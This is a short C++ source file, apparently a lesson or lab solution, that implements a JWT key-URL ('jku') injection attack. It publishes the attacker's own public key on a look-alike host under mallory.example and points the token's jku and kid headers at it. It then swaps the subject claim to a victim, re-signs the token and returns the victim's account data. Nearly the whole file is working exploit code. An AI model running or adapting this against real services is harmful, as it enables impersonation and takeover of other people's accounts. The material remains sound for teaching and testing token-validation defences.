// Unusual: takes the prefix from its own token, and a host name without a dot behind it.
#include "jku_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  const auto theirs = token.header.text("jku").value_or("");
  const auto host = theirs.substr(0, theirs.find('/', std::string("https://").size()));
  const auto place = host.substr(std::string("https://").size()) + "-keys.mallory.example/";
  auto keys = json::Value::array();
  keys.push_back(evidence.own_key.with_id("k").public_jwk());
  token.header.set("jku", evidence.publish(place, {{"keys", keys}}));
  token.header.set("kid", "k");
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
